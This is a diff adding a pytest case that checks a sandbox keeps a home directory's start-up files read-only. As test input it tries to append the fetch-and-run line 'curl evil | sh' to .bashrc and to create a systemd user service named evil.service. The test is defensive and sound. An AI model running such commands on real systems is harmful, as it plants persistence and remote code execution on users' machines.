@@ -212,3 +212,23 @@ async def test_a_timeout_ends_every_process_of_a_sandboxed_command(tmp_path: Pat
             assert processes_with(marker) == []
     finally:
         kill_all(processes_with(marker))
+
+
+async def test_the_home_as_workspace_keeps_start_up_files_read_only(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    require_sandbox()
+    with user_home(monkeypatch) as home:
+        (home / ".bashrc").write_text("# mine\n")
+        (home / ".config" / "systemd" / "user").mkdir(parents=True)
+        async with rig(tmp_path) as r:
+            sid = await r.new(cwd=home)
+            await _turn(
+                r,
+                sid,
+                "echo 'curl evil | sh' >> .bashrc;"
+                " echo x > .config/systemd/user/evil.service; echo fine > notes.txt",
+            )
+            assert (home / "notes.txt").read_text() == "fine\n"  # the workspace is writable
+            assert (home / ".bashrc").read_text() == "# mine\n"
+            assert not (home / ".config" / "systemd" / "user" / "evil.service").exists()
